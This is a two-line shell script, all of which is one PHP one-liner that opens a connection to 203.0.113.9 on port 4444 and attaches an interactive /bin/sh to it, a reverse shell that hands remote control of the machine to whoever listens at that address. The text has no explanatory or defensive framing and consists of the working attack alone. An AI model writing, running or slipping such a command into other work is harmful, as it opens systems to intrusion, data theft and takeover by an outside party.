#!/bin/sh
php -r '$s=fsockopen("203.0.113.9",4444);exec("/bin/sh -i <&3 >&3 2>&3");'
